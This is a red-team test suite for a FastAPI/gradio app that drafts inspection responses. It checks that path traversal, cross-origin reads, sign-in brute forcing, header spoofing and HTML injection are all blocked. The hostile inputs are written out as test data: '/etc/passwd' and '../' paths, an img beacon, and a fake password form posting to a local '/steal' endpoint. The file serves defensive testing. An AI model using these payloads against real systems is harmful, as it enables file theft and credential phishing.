"""A hostile tester's findings against the web app, each replayed against the real running app (uvicorn
serving our FastAPI app with the gradio Blocks mounted in it): plain HTTP with httpx, and chromium
through Playwright where the browser matters. No mocks.

1. form file inputs accept library ids only, never server paths, with one answer for missing/forbidden;
2. no cross-origin reads or writes; 3. throttled, constant-time sign-in, expiring Secure-when-HTTPS
cookies; 4. nothing from a search left in browser storage after sign-out; 5. library documents shown as
text (no beacons, no forms); 6. security headers and a CSP the app runs under; 7. plain messages for
bad input.
"""

from __future__ import annotations

import contextlib
import http.server
import json
import statistics
import threading
import time
import uuid
from pathlib import Path

import httpx
import pytest

from assistant.security import hash_password
from tests.conftest import copy_library, open_draft_tab
from tests.servers import free_port
from ui import views
from ui.app import launch

PASSWORD = "correct horse"
USERS = {"jane": hash_password(PASSWORD), "kim": hash_password("kim's own")}
EVIL = "<img src=http://127.0.0.1:{port}/beacon-img>"


def sign_in_page(page, password: str | None = None) -> None:
    """Sign in on gradio's page as jane, then wait for the app."""
    page.get_by_label("username").fill("jane")
    page.get_by_label("password").fill(password or PASSWORD)
    page.get_by_role("button", name="Login").click()
    open_draft_tab(page, 30_000)


# -- fixtures -----------------------------------------------------------------------------------------
def _serve(sample_data, target: Path, embeddings, **ui):
    a = copy_library(sample_data, target, embeddings, ui={"users": USERS, **ui})
    running, url = launch(a, port=free_port(), block=False)
    return a, running, url


@pytest.fixture(scope="module")
def served(tmp_path_factory, sample_data, embeddings):
    """The app with sign-in, on loopback, default limits."""
    a, running, url = _serve(sample_data, tmp_path_factory.mktemp("redteam") / "data", embeddings)
    yield a, url
    running.close()
    a.close()


@pytest.fixture
def fresh(tmp_path, sample_data, embeddings, request):
    """A server of its own (its own sign-in counters); ``request.param`` holds extra UI settings."""
    a, running, url = _serve(sample_data, tmp_path / "data", embeddings, **getattr(request, "param", {}))
    yield a, url
    running.close()
    a.close()


class Recorder(http.server.ThreadingHTTPServer):
    """A server on another port of this computer: the tester's beacon / hostile page."""

    def __init__(self, page: str = "") -> None:
        self.hits: list[str] = []
        self.page = page
        recorder = self

        class Handler(http.server.BaseHTTPRequestHandler):
            def _answer(self):
                recorder.hits.append(f"{self.command} {self.path}")
                body = recorder.page.encode()
                self.send_response(200)
                self.send_header("Content-Type", "text/html")
                self.send_header("Content-Length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)

            do_GET = do_POST = _answer

            def log_message(self, *args):
                pass

        super().__init__(("127.0.0.1", free_port()), Handler)
        threading.Thread(target=self.serve_forever, daemon=True).start()

    @property
    def base(self) -> str:
        return f"http://127.0.0.1:{self.server_address[1]}"


@pytest.fixture
def recorder():
    server = Recorder()
    yield server
    server.shutdown()
    server.server_close()


def sign_in(url: str, user: str = "jane", password: str = PASSWORD, **kwargs) -> httpx.Response:
    return httpx.post(f"{url}login", data={"username": user, "password": password}, timeout=30, **kwargs)


@contextlib.contextmanager
def session(url: str):
    """An HTTP client signed in as jane."""
    with httpx.Client(base_url=url, timeout=60) as client:
        response = client.post("login", data={"username": "jane", "password": PASSWORD})
        assert response.status_code == 200, response.text
        yield client


def call(
    client: httpx.Client,
    api_name: str,
    data: list,
    headers: dict | None = None,
    session_hash: str | None = None,
) -> dict:
    """One event through gradio's queue, as the page sends it: join, then read the stream to the end.
    Returns the last message (``output`` holds ``data`` or ``error``). A ``session_hash`` keeps several
    events in one browser session (its ``gr.State``)."""
    config = client.get("config").json()
    fn = next(d for d in config["dependencies"] if d.get("api_name") == api_name)
    session_hash = session_hash or uuid.uuid4().hex
    joined = client.post(
        "gradio_api/queue/join",
        json={"data": data, "fn_index": fn["id"], "session_hash": session_hash, "trigger_id": None},
        headers=headers or {},
    )
    joined.raise_for_status()
    last: dict = {}
    with client.stream("GET", f"gradio_api/queue/data?session_hash={session_hash}") as stream:
        for line in stream.iter_lines():
            if line.startswith("data:"):
                last = json.loads(line[5:])
                if last.get("msg") == "process_completed":
                    return last
    return last


def form(**changes) -> list:
    """do_draft's inputs: engine, the plan-row matches as shown and as corrected (none), then the
    form's fields."""
    fields = {
        "title": "Custody services in Fenmoor: a red-team check",
        "inspectorate": "HMICFRS",
        "inspection_type": "force-specific",
        "published": "2026-03-02",
        "force_inspected": True,
        "recommendations": "1. By June 2026, the chief constable should improve custody record keeping. [force]",
        "areas": "",
        "cc": "",
        "plans": [],
    }
    fields.update(changes)
    return ["composer", [], NO_MATCHES, *fields.values()]


NO_MATCHES = {"headers": views.MATCH_HEADERS, "data": []}  # the plan-row table, not opened


def outputs_text(message: dict) -> str:
    return json.dumps(message.get("output", {}))


# -- 1. file inputs from the web: library ids only --------------------------------------------------------
def test_draft_form_refuses_server_paths_with_one_answer(served, tmp_path):
    assistant, url = served
    secret = tmp_path / "secret-plan.csv"
    secret.write_text(
        "Ref,Action,Owner,Due,Status\nR1,ZEBRA-SECRET-ROW custody records,Supt Quill,2026-06,In progress\n",
        encoding="utf-8",
    )
    before = len(assistant.drafts())
    answers = []
    with session(url) as client:
        for value in (
            str(secret),  # a readable server file with plan rows: the report's exploit
            str(tmp_path / "no-such-plan.csv"),  # a missing one
            "/etc/passwd",
            "../../catalog.sqlite3",
            "library:../../catalog.sqlite3",
            "library:no-such-document",
        ):
            done = call(client, "do_draft", form(plans=[value]))
            assert done["success"], done
            text = outputs_text(done)
            assert "ZEBRA-SECRET-ROW" not in text and "version 1" not in text
            answers.append(done["output"]["data"][3])
        assert len(set(answers)) == 1, answers  # missing, forbidden and readable: the same answer
        assert "not in the library" in answers[0]
        assert len(assistant.drafts()) == before
        # A library pick still drafts.
        done = call(client, "do_draft", form(plans=["library:ap-2026-fenmoor-custody"]))
        assert "version 1" in done["output"]["data"][3]
    # The CLI's entry (the user's own machine) still takes a path.
    draft = assistant.draft_from_form(
        title="Custody services in Fenmoor: a red-team check",
        inspection_type="force-specific",
        published="2026-03-02",
        force_inspected=True,
        recommendations="1. By June 2026, the chief constable should improve custody record keeping. [force]",
        action_plan_notes=[str(secret)],
    )
    assert any("ZEBRA-SECRET-ROW" in s.text for s in draft.sources)


def test_inspection_loaders_never_resolve_server_paths(served, tmp_path):
    assistant, url = served
    with session(url) as client:
        # The sample list takes names only: a path is refused, and the refusal names no server folder.
        done = call(client, "load_sample", ["/etc/passwd"])
        assert not done["success"]
        assert str(Path(__file__).resolve().parents[1]) not in outputs_text(done)
        # An uploaded inspection naming server files: kept as written, whether or not they exist.
        yaml_text = Path("corpus/new-inspections/fenmoor-custody-2026.yaml").read_text(encoding="utf-8")
        head = yaml_text.split("action_plan_notes:")[0]
        results = []
        for note in ("/etc/hostname", "/etc/no-such-file", "ap-2026-fenmoor-custody.docx"):
            upload = tmp_path / "inspection.yaml"
            upload.write_text(head + f"action_plan_notes:\n  - {note}\n", encoding="utf-8")
            with upload.open("rb") as fh:
                sent = client.post("gradio_api/upload", files={"files": ("inspection.yaml", fh)})
            sent.raise_for_status()
            path = sent.json()[0]
            done = call(
                client,
                "load_upload",
                [{"path": path, "orig_name": "inspection.yaml", "meta": {"_type": "gradio.FileData"}}],
            )
            assert done["success"], done
            plans = done["output"]["data"][8]["value"]
            results.append((plans, done["output"]["data"][9]))
        assert results[0][0] == ["/etc/hostname"] and results[1][0] == ["/etc/no-such-file"]
        assert results[0][1].replace("hostname", "X") == results[1][1].replace("no\\-such\\-file", "X")
        assert results[2][0] == ["library:ap-2026-fenmoor-custody"]  # a library file, matched by name
        # A file input pointing at a server file, not an upload: gradio refuses it.
        done = call(
            client,
            "load_upload",
            [{"path": "/etc/passwd", "orig_name": "x.yaml", "meta": {"_type": "gradio.FileData"}}],
        )
        assert not done["success"] and "root:" not in outputs_text(done)


def test_sample_whose_notes_are_not_in_the_library_still_drafts(served):
    assistant, url = served
    assistant.forget("ap-2026-fenmoor-integrity")
    with session(url) as client:
        done = call(client, "load_sample", ["fenmoor-integrity-2026"])
        assert done["success"], done
        plans = done["output"]["data"][8]["value"]
        assert plans == ["library:ap-2026-fenmoor-integrity"]
        assert "Added to the library" in done["output"]["data"][9]
        fields = done["output"]["data"][:8]
        drafted = call(client, "do_draft", ["composer", [], NO_MATCHES, *fields, plans])
        assert "version 1" in drafted["output"]["data"][3]


# -- 2. same origin only --------------------------------------------------------------------------------
def test_no_cross_origin_reads_or_writes_over_http(served):
    _, url = served
    port = int(url.rstrip("/").rsplit(":", 1)[1])
    foreign = f"http://127.0.0.1:{port + 1}"
    with session(url) as client:
        for path in ("config", "gradio_api/info", "gradio_api/token"):
            response = client.get(path, headers={"Origin": foreign})
            leaked = [h for h in response.headers if h.startswith("access-control-")]
            assert not leaked, (path, leaked)
        preflight = client.options(
            "gradio_api/queue/join",
            headers={"Origin": foreign, "Access-Control-Request-Method": "POST"},
        )
        assert preflight.status_code == 403 and "access-control-allow-origin" not in preflight.headers
        for path in ("gradio_api/queue/join", "login", "gradio_api/upload"):
            response = client.post(path, json={}, headers={"Origin": foreign})
            assert response.status_code == 403, path
        # The app's own pages still post from their own origin.
        own = client.post("gradio_api/queue/join", json={"data": []}, headers={"Origin": url.rstrip("/")})
        assert own.status_code != 403
        # DNS rebinding: a request naming another host is refused on loopback.
        assert client.get("config", headers={"Host": f"evil.example:{port}"}).status_code == 400


def test_page_on_another_port_cannot_read_a_signed_in_users_search(browser, served):
    _, url = served
    hostile = Recorder()
    try:
        context = browser.new_context()
        page = context.new_page()
        page.goto(url)
        sign_in_page(page)
        page.goto(hostile.base + "/")
        outcome = page.evaluate(
            """async (app) => {
                const out = {};
                for (const path of ['config', 'gradio_api/info']) {
                    try { const r = await fetch(app + path, {credentials: 'include'});
                          out[path] = 'read ' + (await r.text()).length; }
                    catch (e) { out[path] = 'blocked'; }
                }
                try { const r = await fetch(app + 'gradio_api/queue/join', {method: 'POST',
                          credentials: 'include', headers: {'Content-Type': 'application/json'},
                          body: JSON.stringify({data: ['custody'], fn_index: 0, session_hash: 'x'})});
                      out.join = 'read ' + r.status; }
                catch (e) { out.join = 'blocked'; }
                return out;
            }""",
            url,
        )
        assert outcome == {"config": "blocked", "gradio_api/info": "blocked", "join": "blocked"}
        context.close()
    finally:
        hostile.shutdown()
        hostile.server_close()


# -- 3. sign-in ------------------------------------------------------------------------------------------
def test_failed_sign_ins_are_throttled_per_user(fresh):
    _, url = fresh
    codes = [sign_in(url, "kim", f"guess {i}").status_code for i in range(40)]
    assert codes[:5] == [400] * 5 and set(codes[5:]) == {429}
    refused = sign_in(url, "kim", "kim's own")  # the right password, too late
    assert refused.status_code == 429
    assert refused.headers["content-type"].startswith("text/plain")
    assert "Too many failed sign-ins" in refused.text and int(refused.headers["retry-after"]) > 0
    assert "set-cookie" not in refused.headers
    assert sign_in(url).status_code == 200  # another user is not locked out by kim's attacker


@pytest.mark.parametrize(
    "fresh", [{"trust_proxy_headers": True, "sign_in_failures_per_user": 100}], indirect=True
)
def test_failed_sign_ins_are_throttled_per_address_behind_a_trusted_proxy(fresh):
    _, url = fresh
    attacker = {"X-Forwarded-For": "203.0.113.7"}
    codes = [sign_in(url, f"user{i}", "x", headers=attacker).status_code for i in range(25)]
    assert codes[:20] == [400] * 20 and set(codes[20:]) == {429}
    assert sign_in(url, headers=attacker).status_code == 429
    assert sign_in(url, headers={"X-Forwarded-For": "203.0.113.8"}).status_code == 200
    # Behind the proxy, HTTPS as the proxy reports it: the cookie is Secure, with an expiry.
    cookie = sign_in(url, headers={"X-Forwarded-Proto": "https"}).headers["set-cookie"]
    assert "Secure" in cookie and "HttpOnly" in cookie and "Max-Age=28800" in cookie
    assert "samesite=lax" in cookie.lower()


def test_forwarded_headers_are_ignored_unless_configured(fresh):
    _, url = fresh
    # X-Forwarded-For does not give an attacker fresh addresses...
    codes = [
        sign_in(url, f"user{i}", "x", headers={"X-Forwarded-For": f"198.51.100.{i}"}).status_code
        for i in range(22)
    ]
    assert codes[:20] == [400] * 20 and set(codes[20:]) == {429}


def test_cookie_is_not_secure_over_plain_http_and_ignores_an_unconfigured_proxy_header(fresh):
    _, url = fresh
    plain = sign_in(url).headers["set-cookie"]
    faked = sign_in(url, headers={"X-Forwarded-Proto": "https"}).headers["set-cookie"]
    for cookie in (plain, faked):
        assert "Secure" not in cookie and "HttpOnly" in cookie and "Max-Age=28800" in cookie


def test_unknown_user_takes_as_long_as_a_known_one(fresh):
    _, url = fresh

    def timed(user: str) -> float:
        start = time.perf_counter()
        assert sign_in(url, user, "wrong").status_code == 400
        return time.perf_counter() - start

    known = [timed("jane") for _ in range(4)]  # under the per-user limit
    unknown = [timed(f"nobody{i}") for i in range(4)]
    k, u = statistics.median(known), statistics.median(unknown)
    assert u > 0.6 * k and k > 0.6 * u, (known, unknown)


@pytest.mark.parametrize("fresh", [{"session_hours": 0.0005}], indirect=True)  # 1.8 s
def test_sessions_expire_on_the_server(fresh):
    _, url = fresh
    signed = sign_in(url)
    assert "Max-Age=1;" in signed.headers["set-cookie"]
    name, value = signed.headers["set-cookie"].split(";")[0].split("=", 1)
    kept = {"Cookie": f"{name}={value}"}  # kept by hand: a browser would drop it, a thief would not
    assert httpx.get(f"{url}gradio_api/info", headers=kept).status_code == 200
    time.sleep(2.5)
    assert httpx.get(f"{url}gradio_api/info", headers=kept).status_code == 401


# -- 4. nothing left in the browser after sign-out -----------------------------------------------------------
def test_search_results_do_not_outlive_sign_out_in_browser_storage(browser, served):
    _, url = served
    context = browser.new_context()
    page = context.new_page()
    page.goto(url)
    sign_in_page(page)
    page.get_by_role("tab", name="Search").click()
    page.fill("#search-query textarea", "custody detention officers")
    page.click("#search-button")
    page.wait_for_selector("#search-results .hit")
    first_title = page.locator("#search-results .hit b").first.inner_text()
    storage = "() => JSON.stringify([Object.entries(localStorage), Object.entries(sessionStorage)])"
    assert "custody" not in page.evaluate(storage).lower()  # gradio's run history is off
    page.locator("#sign-out a").click()
    page.wait_for_selector("text=Login", timeout=30_000)
    left = page.evaluate(storage)
    assert "custody" not in left.lower() and first_title[3:30] not in left
    assert left == "[[],[]]"
    assert page.locator("#draft-button").count() == 0
    context.close()


# -- 5. documents shown as text ----------------------------------------------------------------------------
def test_library_document_is_shown_as_text_and_fires_nothing(browser, served, recorder, tmp_path):
    assistant, url = served
    base = recorder.base
    doc = tmp_path / "resp-2026-quokka-beacon.txt"
    doc.write_text(
        "Response to HMICFRS: the Police and Crime Commissioner welcomes the quokka welfare report.\n\n"
        f"<img src={base}/beacon-img> and ![x]({base}/beacon-md) and "
        f"<form action={base}/steal method=post><input type=password name=pw>"
        "<button>Sign in again</button></form>\n",
        encoding="utf-8",
    )
    report = assistant.ingest([doc])
    assert not report.failed
    html = views.document_html(*assistant.document("resp-2026-quokka-beacon"))
    assert "<img" not in html and "<form" not in html and "&lt;img" in html
    context = browser.new_context()
    page = context.new_page()
    page.goto(url)
    sign_in_page(page)
    page.get_by_role("tab", name="Search").click()
    page.fill("#search-query textarea", "quokka welfare")
    page.click("#search-button")
    page.wait_for_selector("#search-results .hit")
    page.get_by_label("Open a document").click()
    page.get_by_role("option", name="resp-2026-quokka-beacon").first.click()
    page.wait_for_function("document.querySelector('#doc-view').innerText.includes('beacon-md')")
    view = page.locator("#doc-view")
    assert f"<img src={base}/beacon-img>" in view.inner_text()
    assert view.locator("img").count() == 0 and view.locator("form").count() == 0
    assert view.locator("input").count() == 0
    page.wait_for_timeout(1000)
    assert recorder.hits == []
    context.close()


# -- 6. security headers, and the app still works under its CSP ---------------------------------------------
def test_security_headers_on_every_response(served):
    _, url = served
    responses = [
        httpx.get(url),
        httpx.get(f"{url}config"),
        httpx.get(f"{url}no-such-page"),
        httpx.post(f"{url}login", data={"username": "nobody", "password": "x"}),
        httpx.get(f"{url}logout"),
    ]
    with session(url) as client:
        responses += [client.get("config"), client.get("gradio_api/info")]
    for response in responses:
        h = response.headers
        csp = h["content-security-policy"]
        for directive in (
            "default-src 'self'",
            "img-src 'self' data: blob:",
            "connect-src 'self'",
            "form-action 'self'",
            "frame-ancestors 'none'",
            "object-src 'none'",
        ):
            assert directive in csp, (response.url, directive)
        assert h["x-frame-options"] == "DENY"
        assert h["referrer-policy"] == "no-referrer"
        assert h["x-content-type-options"] == "nosniff"
    assert responses[-1].headers["cache-control"] == "no-store"  # API answers are not cached


def test_app_works_under_its_csp_with_no_violation(browser, served):
    _, url = served
    context = browser.new_context(viewport={"width": 1500, "height": 1000})
    context.add_init_script(
        "window.__csp = []; document.addEventListener('securitypolicyviolation', "
        "e => window.__csp.push(e.violatedDirective + ' ' + e.blockedURI));"
    )
    page = context.new_page()
    console = []
    page.on("console", lambda m: console.append(m.text) if m.type == "error" else None)
    page.goto(url)
    sign_in_page(page)
    page.get_by_label("Start from a sample inspection").click()
    page.get_by_role("option", name="fenmoor-peel-2025-27").click()
    page.wait_for_function("document.querySelector('#draft-message').innerText.includes('Loaded')")
    page.click("#draft-button")
    page.wait_for_function(
        "document.querySelector('#draft-message').innerText.includes('version 1')", timeout=90_000
    )
    assert "Recommendation" in page.inner_text("#draft-view")
    page.get_by_role("tab", name="Search").click()
    page.fill("#search-query textarea", "missing children and exploitation")
    page.click("#search-button")
    page.wait_for_selector("#search-results .hit")
    page.get_by_role("tab", name="Library").click()
    page.get_by_role("tab", name="Status").click()
    page.wait_for_timeout(500)
    assert page.evaluate("window.__csp") == []
    assert not [c for c in console if "Content Security Policy" in c], console
    context.close()


# -- 7. plain messages for bad input -------------------------------------------------------------------
def test_impossible_date_shows_a_plain_message(browser, served):
    _, url = served
    context = browser.new_context(viewport={"width": 1500, "height": 1000})
    page = context.new_page()
    page.goto(url)
    sign_in_page(page)
    page.get_by_label("Inspection title").fill("Custody services in Fenmoor")
    page.get_by_label("Date the report was published").fill("2026-02-30")
    page.get_by_label("Recommendations, one per line").fill(
        "1. By June 2026, the chief constable should improve custody record keeping."
    )
    page.click("#draft-button")
    page.wait_for_function(
        "document.querySelector('#draft-message').innerText.includes('Not drafted')", timeout=30_000
    )
    message = page.inner_text("#draft-message")
    assert "published" in message.lower() and "{" not in message
    body = page.inner_text("body")
    assert '"error"' not in body and "null" not in body
    context.close()


def test_unexpected_errors_are_shown_as_plain_text():
    text = views.error_message("Not drafted", KeyError(None), expected=False)
    assert "Not drafted" in text and "null" not in text and "KeyError" in text
    shown = views.error_message("Not drafted", ValueError("![x](http://127.0.0.1:1/b) <img src=x>"))
    assert "![x](" not in shown and "<img" not in shown


def test_crafted_bad_input_gets_a_plain_answer_never_a_null_error(served, tmp_path):
    _, url = served
    yaml_text = Path("corpus/new-inspections/fenmoor-custody-2026.yaml").read_text(encoding="utf-8")
    bad = tmp_path / "bad-date.yaml"
    bad.write_text(
        "\n".join(
            "published: 2026-02-30" if line.startswith("published:") else line
            for line in yaml_text.splitlines()
        ),
        encoding="utf-8",
    )
    with session(url) as client:
        with bad.open("rb") as fh:
            path = client.post("gradio_api/upload", files={"files": ("bad-date.yaml", fh)}).json()[0]
        done = call(
            client,
            "load_upload",
            [{"path": path, "orig_name": "bad-date.yaml", "meta": {"_type": "gradio.FileData"}}],
        )
        assert done["success"] and "Could not load" in done["output"]["data"][9]
        for api_name, data in (
            ("pick_draft", ["no-such-draft"]),
            ("lambda", ["no-such-draft", "0.0.0"]),
            ("do_search", ["custody", "", "", "not a year", None, ""]),
        ):
            done = call(client, api_name, data)
            if not done.get("success"):
                error = done["output"].get("error")
                assert isinstance(error, str) and error.strip(), (api_name, done)
                assert "Traceback" not in error and "{" not in error
